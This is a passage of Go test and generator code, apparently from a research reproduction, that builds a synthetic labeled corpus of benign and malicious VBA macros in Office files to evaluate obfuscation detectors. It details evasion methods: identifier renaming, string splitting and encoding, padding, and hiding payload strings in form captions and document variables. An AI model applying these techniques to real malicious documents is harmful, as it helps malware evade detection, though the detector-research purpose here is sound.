		if n := len(extract.NormalizeSource(m.Source)); n < extract.MinSignificantBytes {
			t.Errorf("macro %d is insignificant (%d bytes)", i, n)
		}
	}
}

func TestGenerateMacrosDeterministic(t *testing.T) {
	spec := SmallSpec()
	a := GenerateMacros(spec)
	b := GenerateMacros(spec)
	if len(a.Macros) != len(b.Macros) {
		t.Fatal("macro counts differ")
	}
	for i := range a.Macros {
		if a.Macros[i].Source != b.Macros[i].Source {
			t.Fatalf("macro %d differs between runs", i)
		}
	}
}

func TestLabelsAndSources(t *testing.T) {
	d := GenerateMacros(SmallSpec())
	labels := d.Labels()
	sources := d.Sources()
	if len(labels) != len(d.Macros) || len(sources) != len(d.Macros) {
		t.Fatal("length mismatch")
	}
	ones := 0
	for i := range labels {
		if labels[i] == 1 {
			ones++
		}
		if sources[i] != d.Macros[i].Source {
			t.Fatal("sources misaligned")
		}
	}
	want := d.Spec.BenignObfuscated + d.Spec.MaliciousObfuscated
	if ones != want {
		t.Errorf("positive labels = %d, want %d", ones, want)
	}
}

func TestObfuscatedLengthsCluster(t *testing.T) {
	// Figure 5(b): obfuscated macro lengths form bands. Verify that a
	// meaningful share of malicious-obfuscated macros sit near the tool
	// targets 1500/3000/15000.
	d := GenerateMacros(SmallSpec())
	inBand := 0
	total := 0
	for _, m := range d.Macros {
		if !m.Obfuscated || !m.Malicious {
			continue
		}
		total++
		n := len(m.Source)
		// Padding is to the next multiple of the tool's block size, so
		// bands sit on multiples of 1500 and 15000.
		for _, c := range []int{1500, 3000, 4500, 6000, 7500, 9000, 15000, 30000} {
			if n > c*85/100 && n < c*115/100 {
				inBand++
				break
			}
		}
	}
	if total == 0 {
		t.Fatal("no malicious obfuscated macros")
	}
	// Padding tools and padded custom mixes carry roughly half the
	// weight; the light (unpadded) tools land wherever their input length
	// falls.
	if frac := float64(inBand) / float64(total); frac < 0.4 {
		t.Errorf("only %.0f%% of obfuscated macros near tool bands", frac*100)
	}
}

func TestBuildFiles(t *testing.T) {
	spec := SmallSpec()
	d := GenerateMacros(spec)
	files, err := d.BuildFiles()
	if err != nil {
		t.Fatal(err)
	}
	if len(files) != spec.BenignFiles+spec.MaliciousFiles {
		t.Fatalf("files = %d, want %d", len(files), spec.BenignFiles+spec.MaliciousFiles)
	}
	var word, excel int
	macroSeen := map[int]bool{}
	for _, f := range files {
		if f.Word {
			word++
		} else {
			excel++
		}
		for _, idx := range f.MacroIdx {
			macroSeen[idx] = true
		}
		// Every file must be extractable by the pipeline.
		res, err := extract.File(f.Data)
		if err != nil {
			t.Fatalf("extract %s: %v", f.Name, err)
		}
		if len(res.Macros) != len(f.MacroIdx) {
			t.Errorf("%s: extracted %d macros, embedded %d", f.Name, len(res.Macros), len(f.MacroIdx))
		}
		for i, m := range res.Macros {
			if m.Source != d.Macros[f.MacroIdx[i]].Source {
				t.Errorf("%s: module %d content mismatch", f.Name, i)
			}
		}
	}
	wantWord := spec.BenignWordFiles + spec.MaliciousWordFiles
	if word != wantWord {
		t.Errorf("word files = %d, want %d", word, wantWord)
	}
	// Every benign macro must be reachable from at least one file.
	for i, m := range d.Macros {
		if !m.Malicious && !macroSeen[i] {
			t.Errorf("benign macro %d not embedded in any file", i)
		}
	}
}

func TestFileSizeRatio(t *testing.T) {
	spec := SmallSpec()
	d := GenerateMacros(spec)
	files, err := d.BuildFiles()
	if err != nil {
		t.Fatal(err)
	}
	var benignTotal, benignN, malTotal, malN int
	for _, f := range files {
		if f.Malicious {
			malTotal += len(f.Data)
			malN++
		} else {
			benignTotal += len(f.Data)
			benignN++
		}
	}
	benignAvg := benignTotal / benignN
	malAvg := malTotal / malN
	if benignAvg < 4*malAvg {
		t.Errorf("benign avg %d not ≫ malicious avg %d (Table II shape: ~18x)", benignAvg, malAvg)
	}
}

func TestLabelingSimulation(t *testing.T) {
	d := GenerateMacros(SmallSpec())
	e := NewEnsemble(60, 5)
	rep := SimulateLabeling(d, e)
	if rep.Total != len(d.Macros) {
		t.Fatalf("total = %d", rep.Total)
	}
	// Some mislabels are expected — VirusTotal is "not 100% accurate"
	// (§IV.A) — but the thresholded vote must stay mostly right.
	if rep.Mislabeled > rep.Total*8/100 {
		t.Errorf("mislabeled = %d of %d (threshold rule too loose)", rep.Mislabeled, rep.Total)
	}
	if rep.Agree == 0 {
		t.Error("no agreements at all")
	}
	// Plain malicious macros must be flagged by a clear majority.
	for _, m := range d.Macros {
		if m.Malicious && !m.Obfuscated {
			if v := e.Votes(m); v <= MaliciousVotes {
				t.Errorf("plain malicious macro got only %d votes", v)
			}
		}
	}
}

func TestLabelVerdicts(t *testing.T) {
	if Label(0) != VerdictBenign || Label(2) != VerdictBenign {
		t.Error("benign thresholds")
	}
	if Label(3) != VerdictManualReview || Label(25) != VerdictManualReview {
		t.Error("manual band")
	}
	if Label(26) != VerdictMalicious {
		t.Error("malicious threshold")
	}
	if VerdictBenign.String() != "benign" || VerdictMalicious.String() != "malicious" ||
		VerdictManualReview.String() != "manual-review" {
		t.Error("verdict names")
	}
}

func TestBenignLengthsSpread(t *testing.T) {
	// Figure 5(a): benign lengths must be spread out, not clustered.
	d := GenerateMacros(SmallSpec())
	var lengths []int
	for _, m := range d.Macros {
		if !m.Malicious && !m.Obfuscated {
			lengths = append(lengths, len(m.Source))
		}
	}
	sort.Ints(lengths)
	// Quartiles must differ substantially for a uniform-ish spread.
	q1 := lengths[len(lengths)/4]
	q3 := lengths[3*len(lengths)/4]
	if q3 < q1*2 {
		t.Errorf("benign lengths too concentrated: q1=%d q3=%d", q1, q3)
	}
}

func BenchmarkGenerateMacro(b *testing.B) {
	rng := rand.New(rand.NewSource(1))
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		BenignMacro(rng, 2000)
	}
}

func TestHiddenStringsEmbeddedAndRecoverable(t *testing.T) {
	// §VI.B.1 end to end: a stealth-obfuscated macro's payload moves into
	// document storage; the document writer must embed it, and the
	// extraction pipeline must recover it by storage-string scanning.
	spec := SmallSpec()
	d := GenerateMacros(spec)
	var withHidden []int
	for i, m := range d.Macros {
		if len(m.Hidden) > 0 {
			withHidden = append(withHidden, i)
		}
	}
	if len(withHidden) == 0 {
		t.Fatal("no macros used the hidden-string trick")
	}
	files, err := d.BuildFiles()
	if err != nil {
		t.Fatal(err)
	}
	// Index macros to a carrying file.
	carrier := map[int]*File{}
	for fi := range files {
		for _, mi := range files[fi].MacroIdx {
			if carrier[mi] == nil {
				carrier[mi] = &files[fi]
			}
		}
	}
	checked := 0
	for _, mi := range withHidden {
		f := carrier[mi]
		if f == nil {
			continue // malicious macros are sampled; not all are embedded
		}
		res, err := extract.File(f.Data)
		if err != nil {
			t.Fatalf("extract %s: %v", f.Name, err)
		}
		joined := strings.Join(res.StorageStrings, "\x00")
		for _, h := range d.Macros[mi].Hidden {
			if !strings.Contains(joined, h.Value) {
				t.Errorf("%s: hidden %s %q not recoverable from storage", f.Name, h.Kind, h.Value)
			}
		}
		checked++
	}
	if checked == 0 {
		t.Fatal("no hidden-string macros were embedded in any file")
	}
}
