// Package corpus generates the synthetic evaluation dataset that stands in
// for the paper's 2,537 real-world Office documents (see the substitution
// table in DESIGN.md): realistic benign VBA macros in several authoring
// styles, malicious downloader/dropper macros, obfuscation via the
// obfuscate package, document packaging through cfb/ovba/ooxml, and the
// AV-vote labeling simulation of §IV.A.
package corpus

import (
	"math/rand"
	"strings"
)

// Word pools for meaningful identifier synthesis. Benign macros use
// human-readable camel-case names assembled from these, which is what the
// V14/V15 and J5 features key on.
var (
	verbs = []string{
		"Update", "Calculate", "Load", "Save", "Send", "Build", "Format",
		"Export", "Import", "Check", "Apply", "Refresh", "Clear", "Print",
		"Create", "Delete", "Copy", "Merge", "Sort", "Filter", "Validate",
		"Process", "Generate", "Archive", "Sync", "Prepare",
	}
	nouns = []string{
		"Report", "Invoice", "Budget", "Sheet", "Customer", "Order",
		"Total", "Range", "Table", "Chart", "Summary", "Record", "Row",
		"Column", "File", "Backup", "Header", "Footer", "Cell", "Value",
		"Entry", "Account", "Balance", "Payment", "Schedule", "Contact",
		"Document", "Template", "Message", "Project",
	}
	adjectives = []string{
		"total", "current", "last", "next", "first", "final", "temp",
		"max", "min", "active", "selected", "new", "old", "base",
		"gross", "net", "daily", "monthly", "yearly", "weekly",
	}
	commentPhrases = []string{
		"update the summary sheet",
		"loop over all data rows",
		"skip empty cells",
		"format the header row",
		"send the report via Outlook",
		"save a backup copy first",
		"calculate the running total",
		"validate the user input",
		"clear previous results",
		"load settings from the config sheet",
		"append the record to the log",
		"export the table as CSV",
		"check the date range",
		"apply the corporate style",
		"archive last month's figures",
	}
	sheetNames = []string{
		"Data", "Summary", "Config", "Report", "Input", "Results",
		"Archive", "Budget", "Q1", "Q2", "Raw", "Log",
	}
	filePathsBenign = []string{
		`C:\Reports\summary.xlsx`, `C:\Data\export.csv`,
		`\\share\finance\budget.xls`, `C:\Temp\backup.doc`,
		`C:\Users\Public\Documents\log.txt`, `D:\Archive\monthly.xlsm`,
	}
)

// Non-English naming material: real-world benign corpora are full of
// Hungarian-notation prefixes and romanized non-English words, which is
// precisely why dictionary/readability features (J5) generalize poorly.
var (
	hungarianPrefixes = []string{
		"str", "int", "lng", "obj", "btn", "cmd", "txt", "frm", "chk",
		"lst", "rng", "wks", "dbl", "var",
	}
	romanizedWords = []string{
		"hwakin", "jeochook", "geumaek", "hapgye", "naeyong", "mokrok",
		"jaryo", "ilja", "sujung", "chogi", "gyesan", "bogoseo",
		"summe", "betrag", "rechnung", "kunde", "datum", "pruefung",
		"anzahl", "spalte", "zeile", "blatt", "gesamt", "inhalt",
	}
)

// foreignName builds identifiers in the Hungarian/romanized style, e.g.
// "cmdHwakin" or "gesamtGeumaek". Such names are legitimate yet fail
// naive human-readability heuristics.
func foreignName(rng *rand.Rand) string {
	w := romanizedWords[rng.Intn(len(romanizedWords))]
	capped := strings.ToUpper(w[:1]) + w[1:]
	switch rng.Intn(3) {
	case 0:
		return hungarianPrefixes[rng.Intn(len(hungarianPrefixes))] + capped
	case 1:
		w2 := romanizedWords[rng.Intn(len(romanizedWords))]
		return w2 + capped
	default:
		return w
	}
}

// pick returns a uniformly random element of pool.
func pick(rng *rand.Rand, pool []string) string {
	return pool[rng.Intn(len(pool))]
}

// procName builds a VerbNoun procedure name, e.g. "UpdateReport".
func procName(rng *rand.Rand) string {
	return pick(rng, verbs) + pick(rng, nouns)
}

// varName builds an adjectiveNoun variable name, e.g. "totalBalance".
func varName(rng *rand.Rand) string {
	return pick(rng, adjectives) + pick(rng, nouns)
}

// uniqueNames yields n distinct variable names.
func uniqueNames(rng *rand.Rand, n int) []string {
	seen := map[string]bool{}
	var out []string
	for len(out) < n {
		name := varName(rng)
		if seen[strings.ToLower(name)] {
			name = name + pick(rng, nouns)
		}
		if seen[strings.ToLower(name)] {
			continue
		}
		seen[strings.ToLower(name)] = true
		out = append(out, name)
	}
	return out
}

// opaqueToken builds a base64-alphabet blob of length n: license keys,
// API tokens and session ids that legitimately appear in benign macros
// and carry near-random byte entropy.
func opaqueToken(rng *rand.Rand, n int) string {
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	var sb strings.Builder
	sb.Grow(n)
	for i := 0; i < n; i++ {
		sb.WriteByte(alphabet[rng.Intn(len(alphabet))])
	}
	return sb.String()
}
