package corpus

import (
	"fmt"
	"math/rand"
	"strings"

	"repro/internal/cfb"
	"repro/internal/extract"
	"repro/internal/obfuscate"
	"repro/internal/ooxml"
	"repro/internal/ovba"
)

// Spec parameterizes dataset generation. The defaults reproduce the
// paper's Tables II and III exactly at the macro level; file sizes are
// scaled by SizeScale (see DESIGN.md's substitution table — the 18×
// benign/malicious size ratio is preserved, the absolute megabytes are
// not, to keep generation tractable).
type Spec struct {
	Seed int64

	// File counts (Table II).
	BenignFiles        int // 773
	BenignWordFiles    int // 75 (rest are Excel)
	MaliciousFiles     int // 1,764
	MaliciousWordFiles int // 1,410

	// Macro counts after dedup + significance filtering (Table III).
	BenignMacros        int // 3,380
	BenignObfuscated    int // 58 (1.7%)
	MaliciousMacros     int // 832
	MaliciousObfuscated int // 819 (98.4%)

	// Benign macro length range; lengths are sampled uniformly, which is
	// what Figure 5(a) shows for non-obfuscated macros.
	BenignMinLen int
	BenignMaxLen int

	// Average target file sizes in bytes (already scaled): Table II
	// reports 1.1 MB benign and 0.06 MB malicious.
	BenignAvgFileSize    int
	MaliciousAvgFileSize int
}

// DefaultSpec returns the Table II/III parameters with a 1/10 file-size
// scale.
func DefaultSpec() Spec {
	return Spec{
		Seed:                 1,
		BenignFiles:          773,
		BenignWordFiles:      75,
		MaliciousFiles:       1764,
		MaliciousWordFiles:   1410,
		BenignMacros:         3380,
		BenignObfuscated:     58,
		MaliciousMacros:      832,
		MaliciousObfuscated:  819,
		BenignMinLen:         160,
		BenignMaxLen:         20000,
		BenignAvgFileSize:    110_000, // 1.1 MB × 0.1
		MaliciousAvgFileSize: 6_000,   // 0.06 MB × 0.1
	}
}

// SmallSpec returns a proportionally shrunken dataset for fast tests:
// roughly 1/10 of every count, preserving the obfuscation rates.
func SmallSpec() Spec {
	s := DefaultSpec()
	s.BenignFiles, s.BenignWordFiles = 77, 8
	s.MaliciousFiles, s.MaliciousWordFiles = 176, 141
	s.BenignMacros, s.BenignObfuscated = 338, 6
	s.MaliciousMacros, s.MaliciousObfuscated = 83, 82
	s.BenignMaxLen = 8000
	return s
}

// Macro is one generated macro with its ground-truth labels.
type Macro struct {
	// Source is the final macro text (after obfuscation, when applied).
	Source string
	// Plain is the pre-obfuscation text ("" when never obfuscated); the
	// AV-vote simulation uses it for unpacking-capable scanners.
	Plain string
	// Obfuscated is the ground-truth obfuscation label (the paper's
	// manual labeling).
	Obfuscated bool
	// Malicious records which half of the corpus the macro belongs to.
	Malicious bool
	// Origin names the generator style or obfuscation tool.
	Origin string
	// Hidden lists payload strings the hidden-string anti-analysis trick
	// moved into document storage; BuildFiles embeds them into the
	// carrying documents.
	Hidden []obfuscate.HiddenString
}

// Dataset is the generated macro corpus.
type Dataset struct {
	Spec   Spec
	Macros []Macro
}

// GenerateMacros builds the deduplicated, significance-filtered macro
// corpus of Table III. It is deterministic in spec.Seed.
func GenerateMacros(spec Spec) *Dataset {
	rng := rand.New(rand.NewSource(spec.Seed))
	d := &Dataset{Spec: spec}
	seen := make(map[[32]byte]bool)

	// add retries generation until the macro is unique (post-dedup
	// identity) and significant (≥150 normalized bytes). Every macro gets
	// the author-diversity formatting pass (see wildFormat) regardless of
	// class.
	add := func(gen func() Macro) {
		for {
			m := gen()
			m.Source = wildFormat(m.Source, rng)
			if len(extract.NormalizeSource(m.Source)) < extract.MinSignificantBytes {
				continue
			}
			fp := extract.Fingerprint(m.Source)
			if seen[fp] {
				continue
			}
			seen[fp] = true
			d.Macros = append(d.Macros, m)
			return
		}
	}

	// Benign, non-obfuscated: uniform length spread (Figure 5(a)).
	for i := 0; i < spec.BenignMacros-spec.BenignObfuscated; i++ {
		add(func() Macro {
			target := spec.BenignMinLen + rng.Intn(spec.BenignMaxLen-spec.BenignMinLen)
			style := randomStyle(rng)
			return Macro{
				Source: BenignMacroStyled(rng, target, style),
				Origin: fmt.Sprintf("benign-style-%d", style),
			}
		})
	}

	// Benign, obfuscated (IP protection): light tools without the
	// malicious padding targets.
	protectTool := obfuscate.Tool{
		Name: "ip-protect",
		Opts: obfuscate.Options{
			Random: true, Split: true, Encode: true,
			Mode: obfuscate.EncodeChr, StripComments: true,
		},
	}
	for i := 0; i < spec.BenignObfuscated; i++ {
		add(func() Macro {
			target := spec.BenignMinLen + rng.Intn(spec.BenignMaxLen-spec.BenignMinLen)
			plain := BenignMacro(rng, target)
			return Macro{
				Source:     protectTool.Obfuscate(plain, rng.Int63()),
				Plain:      plain,
				Obfuscated: true,
				Origin:     protectTool.Name,
			}
		})
	}

	// Malicious, obfuscated: the 98.4%. Half come from the fixed tool
	// presets (whose padding produces the Figure 5(b) bands); a third are
	// per-family custom technique mixes — each real malware family
	// composed O1–O4 differently — and the rest are minimally
	// hand-obfuscated (one split or one Replace), the genuinely hard
	// cases behind the paper's sub-1.0 recall.
	tools := append(append([]obfuscate.Tool(nil), obfuscate.StandardTools...), obfuscate.LightTools...)
	toolWeights := []int{18, 18, 14, 7, 8, 13, 13, 9} // aligned with tools
	for i := 0; i < spec.MaliciousObfuscated; i++ {
		add(func() Macro {
			plain := RandomMaliciousMacro(rng)
			var source, origin string
			var report obfuscate.Report
			switch r := rng.Intn(100); {
			case r < 42:
				tool := weightedTool(rng, tools, toolWeights)
				source, report = tool.ObfuscateWithReport(plain, rng.Int63())
				origin = tool.Name
			case r < 77:
				source, report = obfuscate.ApplyWithReport(plain, randomComposition(rng))
				origin = "custom-mix"
			default:
				source, report = obfuscate.ApplyWithReport(plain, minimalObfuscation(rng))
				origin = "minimal"
			}
			return Macro{
				Source:     source,
				Plain:      plain,
				Obfuscated: true,
				Malicious:  true,
				Origin:     origin,
				Hidden:     report.Hidden,
			}
		})
	}

	// Malicious, plain: the 1.6% that skip obfuscation.
	for i := 0; i < spec.MaliciousMacros-spec.MaliciousObfuscated; i++ {
		add(func() Macro {
			return Macro{
				Source:    RandomMaliciousMacro(rng),
				Malicious: true,
				Origin:    "malicious-plain",
			}
		})
	}
	return d
}

// randomComposition draws a per-sample technique mix: real malware
// families each composed O1–O4 differently, so no fixed tool signature
// covers them.
func randomComposition(rng *rand.Rand) obfuscate.Options {
	opts := obfuscate.Options{Seed: rng.Int63()}
	opts.StripComments = rng.Float64() < 0.7
	if rng.Float64() < 0.6 {
		opts.Random = true
		opts.RenameFraction = 0.4 + 0.6*rng.Float64()
	}
	if rng.Float64() < 0.5 {
		opts.Split = true
		opts.SplitMinLen = 6 + rng.Intn(9)
		opts.SplitFraction = 0.3 + 0.7*rng.Float64()
	}
	if rng.Float64() < 0.55 {
		opts.Encode = true
		opts.Mode = []obfuscate.EncodeMode{obfuscate.EncodeChr, obfuscate.EncodeReplace, obfuscate.EncodeDecoder}[rng.Intn(3)]
		opts.EncodeFraction = 0.2 + 0.7*rng.Float64()
	}
	if rng.Float64() < 0.5 {
		opts.Logic = true
		opts.TargetSize = []int{1500, 3000, 15000}[rng.Intn(3)]
	}
	opts.HideStrings = rng.Float64() < 0.1
	opts.BrokenCode = rng.Float64() < 0.1
	if !opts.Random && !opts.Split && !opts.Encode && !opts.Logic {
		opts.Split = true
		opts.SplitMinLen = 8
	}
	return opts
}

// minimalObfuscation is the barely-there hand obfuscation: one or two
// strings split or Replace-masked, everything else untouched.
func minimalObfuscation(rng *rand.Rand) obfuscate.Options {
	if rng.Intn(2) == 0 {
		return obfuscate.Options{
			Seed: rng.Int63(), Split: true,
			SplitMinLen: 14, SplitFraction: 0.35,
			Indent: obfuscate.IndentKeep,
		}
	}
	return obfuscate.Options{
		Seed: rng.Int63(), Encode: true,
		Mode: obfuscate.EncodeReplace, EncodeFraction: 0.2,
		Indent: obfuscate.IndentKeep,
	}
}

func weightedTool(rng *rand.Rand, tools []obfuscate.Tool, weights []int) obfuscate.Tool {
	total := 0
	for _, w := range weights {
		total += w
	}
	r := rng.Intn(total)
	for i, w := range weights {
		if r < w {
			return tools[i]
		}
		r -= w
	}
	return tools[0]
}

// Labels returns the ground-truth obfuscation labels (1 = obfuscated)
// aligned with d.Macros.
func (d *Dataset) Labels() []int {
	out := make([]int, len(d.Macros))
	for i, m := range d.Macros {
		if m.Obfuscated {
			out[i] = 1
		}
	}
	return out
}

// Sources returns the macro texts aligned with d.Macros.
func (d *Dataset) Sources() []string {
	out := make([]string, len(d.Macros))
	for i, m := range d.Macros {
		out[i] = m.Source
	}
	return out
}

// File is one generated document.
type File struct {
	Name      string
	Data      []byte
	Word      bool
	Malicious bool
	// MacroIdx indexes into Dataset.Macros for every embedded module.
	MacroIdx []int
}

// BuildFiles packages the macros into Office documents per Table II:
// benign files are OOXML (.docm/.xlsm, as collected from Google), and
// malicious files are legacy OLE (.doc/.xls, the dominant malware
// carriers). Macro-to-file assignment reuses macros across files — heavily
// so on the malicious side, reproducing the paper's observation that most
// malicious documents share the same macros.
func (d *Dataset) BuildFiles() ([]File, error) {
	rng := rand.New(rand.NewSource(d.Spec.Seed + 7919))
	var benignIdx, malIdx []int
	for i, m := range d.Macros {
		if m.Malicious {
			malIdx = append(malIdx, i)
		} else {
			benignIdx = append(benignIdx, i)
		}
	}
	var files []File

	// Benign: every macro appears in at least one file; files hold 1..9
	// modules. Deal macros round-robin into files, then top up small
	// files with duplicates.
	assignments := make([][]int, d.Spec.BenignFiles)
	for i, idx := range benignIdx {
		f := i % d.Spec.BenignFiles
		assignments[f] = append(assignments[f], idx)
	}
	for f := range assignments {
		for len(assignments[f]) < 1+rng.Intn(9) && len(benignIdx) > 0 {
			assignments[f] = append(assignments[f], benignIdx[rng.Intn(len(benignIdx))])
		}
	}
	for f, idxs := range assignments {
		word := f < d.Spec.BenignWordFiles
		data, err := d.packageOOXML(rng, idxs, word)
		if err != nil {
			return nil, fmt.Errorf("benign file %d: %w", f, err)
		}
		ext := ".xlsm"
		if word {
			ext = ".docm"
		}
		files = append(files, File{
			Name:     fmt.Sprintf("benign_%04d%s", f, ext),
			Data:     data,
			Word:     word,
			MacroIdx: idxs,
		})
	}

	// Malicious: 1..2 modules per file, macros reused across files (the
	// number of distinct macros is half the number of files, §IV.B).
	// Every macro is embedded at least once so the extraction experiment
	// recovers the full Table III counts.
	for f := 0; f < d.Spec.MaliciousFiles; f++ {
		var idxs []int
		if f < len(malIdx) {
			idxs = []int{malIdx[f]}
		} else {
			idxs = []int{malIdx[rng.Intn(len(malIdx))]}
		}
		if rng.Intn(4) == 0 {
			idxs = append(idxs, malIdx[rng.Intn(len(malIdx))])
		}
		word := f < d.Spec.MaliciousWordFiles
		data, err := d.packageOLE(rng, idxs, word)
		if err != nil {
			return nil, fmt.Errorf("malicious file %d: %w", f, err)
		}
		ext := ".xls"
		if word {
			ext = ".doc"
		}
		files = append(files, File{
			Name:      fmt.Sprintf("malicious_%04d%s", f, ext),
			Data:      data,
			Word:      word,
			Malicious: true,
			MacroIdx:  idxs,
		})
	}
	return files, nil
}

// packageOOXML builds a .docm/.xlsm with the given macros, padded toward
// the benign size target (lognormal-ish spread).
func (d *Dataset) packageOOXML(rng *rand.Rand, idxs []int, word bool) ([]byte, error) {
	proj := &ovba.Project{Name: "VBAProject"}
	for n, idx := range idxs {
		proj.Modules = append(proj.Modules, ovba.Module{
			Name:   fmt.Sprintf("Module%d", n+1),
			Source: d.Macros[idx].Source,
		})
	}
	b := cfb.NewBuilder()
	if err := proj.WriteTo(b, ""); err != nil {
		return nil, err
	}
	if err := d.embedHiddenStrings(b, "", idxs); err != nil {
		return nil, err
	}
	vbaBin, err := b.Bytes()
	if err != nil {
		return nil, err
	}
	kind := ooxml.DocExcel
	if word {
		kind = ooxml.DocWord
	}
	size := int(float64(d.Spec.BenignAvgFileSize) * (0.3 + rng.ExpFloat64()*0.7))
	return ooxml.Write(kind, vbaBin, size)
}

// packageOLE builds a legacy .doc/.xls compound file with the macros under
// the host application's conventional storage. Hidden-string payloads are
// embedded as form captions and document variables so the §VI.B.1 trick
// round-trips.
func (d *Dataset) packageOLE(rng *rand.Rand, idxs []int, word bool) ([]byte, error) {
	proj := &ovba.Project{Name: "VBAProject"}
	for n, idx := range idxs {
		proj.Modules = append(proj.Modules, ovba.Module{
			Name:   fmt.Sprintf("Module%d", n+1),
			Source: d.Macros[idx].Source,
		})
	}
	b := cfb.NewBuilder()
	prefix := "_VBA_PROJECT_CUR"
	if word {
		prefix = "Macros"
	}
	if err := proj.WriteTo(b, prefix); err != nil {
		return nil, err
	}
	if err := d.embedHiddenStrings(b, prefix, idxs); err != nil {
		return nil, err
	}
	// Host-application body stream with filler toward the size target.
	body := "WordDocument"
	if !word {
		body = "Workbook"
	}
	target := int(float64(d.Spec.MaliciousAvgFileSize) * (0.4 + rng.ExpFloat64()*0.6))
	filler := make([]byte, target)
	for i := range filler {
		filler[i] = byte(i*31 + 7)
	}
	if err := b.AddStream(body, filler); err != nil {
		return nil, err
	}
	return b.Bytes()
}

// embedHiddenStrings writes the hidden-string payloads of the given macros
// into document storage: UserForm caption streams (prefix/UserForm1/o) and
// a document-variables stream, the §VI.B.1 hiding places.
func (d *Dataset) embedHiddenStrings(b *cfb.Builder, prefix string, idxs []int) error {
	var captions, variables []byte
	for _, idx := range idxs {
		for _, h := range d.Macros[idx].Hidden {
			switch h.Kind {
			case "caption":
				// Minimal form object stream: header bytes then the
				// caption text, recoverable by printable-string scanning
				// as olevba does.
				captions = append(captions, 0x00, 0x02, 0x18, 0x00)
				captions = append(captions, []byte(h.Value)...)
				captions = append(captions, 0x00)
			case "variable":
				variables = append(variables, []byte(h.Name)...)
				variables = append(variables, 0x00)
				variables = append(variables, []byte(h.Value)...)
				variables = append(variables, 0x00)
			}
		}
	}
	join := func(parts ...string) string {
		var nonEmpty []string
		for _, p := range parts {
			if p != "" {
				nonEmpty = append(nonEmpty, p)
			}
		}
		return strings.Join(nonEmpty, "/")
	}
	if len(captions) > 0 {
		if err := b.AddStream(join(prefix, "UserForm1", "o"), captions); err != nil {
			return err
		}
		// The paired VBFrame stream real documents carry.
		frame := []byte("VERSION 5.00\r\nBegin {C62A69F0-16DC-11CE-9E98-00AA00574A4F} UserForm1\r\nEnd\r\n")
		if err := b.AddStream(join(prefix, "UserForm1", "\x03VBFrame"), frame); err != nil {
			return err
		}
	}
	if len(variables) > 0 {
		if err := b.AddStream("DocumentVariables", variables); err != nil {
			return err
		}
	}
	return nil
}
