package corpus

import (
	"fmt"
	"math/rand"
	"sort"
	"strings"

	"repro/internal/obfuscate"
)

// Style is a benign authoring style. Mixing styles is what keeps the
// generic J features noisy on benign code (recorded macros have no
// comments, data-heavy macros have long lines and many strings, dense
// macros pack statements with colons) while the targeted V features stay
// clean — the property the paper's comparison experiment hinges on.
type Style int

// Benign macro styles.
const (
	// StyleDocumented is hand-written code with comments and helpers.
	StyleDocumented Style = iota + 1
	// StyleRecorded mimics the Office macro recorder: no comments,
	// repetitive Selection/Range operations.
	StyleRecorded
	// StyleDataHeavy embeds string tables and concatenation-built text.
	StyleDataHeavy
	// StyleDense packs multiple statements per line with ':' and long
	// lines, confusing line-based features.
	StyleDense
	// StyleFinancial exercises the financial/arithmetic built-ins at a
	// benign rate.
	StyleFinancial
	// StyleTerse is quick-and-dirty code with one-letter and abbreviated
	// identifiers and no comments — benign code that looks unreadable to
	// generic (J) features.
	StyleTerse
	// StyleStringUtil is a legitimate string-manipulation helper module:
	// heavy Mid/Replace/InStr/Chr usage, the false-positive pressure on
	// the V8 text-function feature.
	StyleStringUtil
	// StyleAutomation is legitimate system automation: Shell, CreateObject,
	// file I/O and Windows paths — benign code that shares the
	// rich-functionality (V12) and backslash (J17) signals of malware.
	StyleAutomation
)

// styleWeights matches the rough frequency of each style in real corpora.
var styleWeights = []struct {
	style  Style
	weight int
}{
	{StyleDocumented, 26},
	{StyleRecorded, 17},
	{StyleDataHeavy, 12},
	{StyleDense, 7},
	{StyleFinancial, 8},
	{StyleTerse, 11},
	{StyleStringUtil, 7},
	{StyleAutomation, 12},
}

// randomStyle samples a style by weight.
func randomStyle(rng *rand.Rand) Style {
	total := 0
	for _, w := range styleWeights {
		total += w.weight
	}
	r := rng.Intn(total)
	for _, w := range styleWeights {
		if r < w.weight {
			return w.style
		}
		r -= w.weight
	}
	return StyleDocumented
}

// BenignMacro generates one benign macro of approximately targetLen bytes
// in a randomly chosen style.
func BenignMacro(rng *rand.Rand, targetLen int) string {
	return BenignMacroStyled(rng, targetLen, randomStyle(rng))
}

// benignDeclares are Win32 API declarations found in legitimate
// automation code; they keep the module-level Declare signal (long lines,
// code outside procedure bodies) from being a malware tell.
var benignDeclares = []string{
	`Private Declare Function GetUserNameA Lib "advapi32" (ByVal lpBuffer As String, nSize As Long) As Long`,
	`Private Declare Sub Sleep Lib "kernel32" (ByVal dwMilliseconds As Long)`,
	`Private Declare Function GetTickCount Lib "kernel32" () As Long`,
	`Private Declare Function ShellExecuteA Lib "shell32.dll" (ByVal hwnd As Long, ByVal lpOperation As String, ByVal lpFile As String, ByVal lpParameters As String, ByVal lpDirectory As String, ByVal nShowCmd As Long) As Long`,
	`Private Declare Function SHGetSpecialFolderLocation Lib "shell32.dll" (ByVal hwndOwner As Long, ByVal nFolder As Long, pidl As Long) As Long`,
	`Private Declare Function GetComputerNameA Lib "kernel32" (ByVal lpBuffer As String, nSize As Long) As Long`,
}

// BenignMacroStyled generates one benign macro of approximately targetLen
// bytes in the given style. Generation appends whole procedures until the
// target is reached, so real output length overshoots by at most one
// procedure.
func BenignMacroStyled(rng *rand.Rand, targetLen int, style Style) string {
	var sb strings.Builder
	if style == StyleDocumented {
		fmt.Fprintf(&sb, "' %s\n' Maintained by the finance team\nOption Explicit\n\n", pick(rng, commentPhrases))
	}
	if (style == StyleDocumented || style == StyleAutomation || style == StyleTerse) && rng.Intn(3) == 0 {
		fmt.Fprintf(&sb, "%s\n\n", pick(rng, benignDeclares))
	}
	for sb.Len() < targetLen {
		sb.WriteString(benignProcedure(rng, style))
		sb.WriteByte('\n')
	}
	out := sb.String()
	// A share of real benign macros uses non-English naming conventions;
	// restyle the identifiers accordingly (see foreignName).
	if rng.Intn(100) < 30 {
		out = obfuscate.RenameIdentifiers(out, 1, rng, foreignName)
	}
	return out
}

// benignProcedure emits one procedure in the given style.
func benignProcedure(rng *rand.Rand, style Style) string {
	switch style {
	case StyleRecorded:
		return recordedProcedure(rng)
	case StyleDataHeavy:
		return dataHeavyProcedure(rng)
	case StyleDense:
		return denseProcedure(rng)
	case StyleFinancial:
